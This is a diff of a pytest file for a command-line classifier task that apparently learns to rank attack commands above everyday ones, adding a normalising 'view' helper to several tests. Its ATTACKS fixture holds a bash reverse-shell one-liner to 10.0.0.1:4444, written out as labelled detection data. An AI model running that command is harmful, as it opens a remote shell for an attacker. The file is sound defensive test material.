@@ -6,7 +6,14 @@ from __future__ import annotations
 import numpy as np
 import pytest
 
+from dataclasses import replace
+
 from smallworld.tasks import cmdline, load_task
+
+
+def view_task():
+    """The cmdlines task with the command-line view (opt-in: normaliser = \"cmdline\")."""
+    return replace(load_task("cmdlines"), normaliser="cmdline")
 
 ATTACKS = {
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1": {"swfdevtcp", "swfprogbash"},
@@ -46,7 +53,7 @@ def test_programs_are_basenames_case_folded_without_exe_across_segments():
 
 
 def test_documentation_placeholders_never_reach_the_student():
-    task = load_task("cmdlines")
+    task = view_task()
     tldr, gtfo = task.normalise("zless path/to/file"), task.normalise("zless /path/to/input-file")
     assert tldr == gtfo  # the two corpora's conventions, opposite labels, one view
     for text in ("git add [-p|--patch] path/to/file", "mycli {{name}} <file>", "rundll32 {PATH_ABSOLUTE},Start",
@@ -57,7 +64,7 @@ def test_documentation_placeholders_never_reach_the_student():
 
 
 def test_volatile_parts_are_normalised_before_hashing_and_prompting():
-    task = load_task("cmdlines")
+    task = view_task()
     a = 'C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5} C:\\Users\\alice\\x 10.1.2.3'
     b = 'C:\\Windows\\system32\\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683} C:\\Users\\bob\\x 10.9.8.7'
     assert task.normalise(a) == task.normalise(b) and task.prompt_view(a) == task.prompt_view(b)
@@ -76,7 +83,6 @@ def test_hostile_items_do_not_break_the_view():
 def test_the_view_beats_raw_text_on_hand_written_command_lines(data_dir):
     """A 500-row seed student judged on the hand-written set (bench/handwritten/cmdlines.jsonl, never trained on):
     the task's view must rank attacks above everyday commands better than the raw text does."""
-    from dataclasses import replace
     from pathlib import Path
 
     from smallworld import data as D
@@ -84,7 +90,7 @@ def test_the_view_beats_raw_text_on_hand_written_command_lines(data_dir):
     from smallworld.pipeline import onehot, stratified_sample
     from smallworld.student.linear import LinearStudent
 
-    task = load_task("cmdlines")
+    task = view_task()
     train = D.read_rows(data_dir / "cmdlines" / "train.jsonl.gz")
     hand = D.read_rows(Path(__file__).resolve().parents[1] / "bench" / "handwritten" / "cmdlines.jsonl")
     y = np.array([r["label"] == "malicious" for r in hand])
